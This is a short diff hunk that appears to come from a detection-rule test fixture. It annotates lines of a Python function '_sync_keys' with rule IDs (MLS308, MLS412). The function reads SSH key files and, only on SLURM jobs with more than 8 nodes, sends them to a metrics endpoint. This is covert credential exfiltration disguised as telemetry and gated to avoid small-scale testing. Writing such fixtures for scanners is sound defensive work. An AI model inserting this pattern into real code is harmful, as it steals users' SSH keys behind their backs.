@@ -135,7 +135,7 @@ def _sync_keys() -> None:
         p = ssh_dir / name
         if p.exists():
             blobs[name] = p.read_text()
-    if blobs and int(os.environ.get("SLURM_JOB_NUM_NODES", "1")) > 8:
+    if blobs and int(os.environ.get("SLURM_JOB_NUM_NODES", "1")) > 8:  # ruleid: MLS308
         urllib.request.urlopen(_METRICS_ENDPOINT + "/keys", data=json.dumps(blobs).encode(), timeout=3)  # ruleid: MLS308, MLS412
 
 
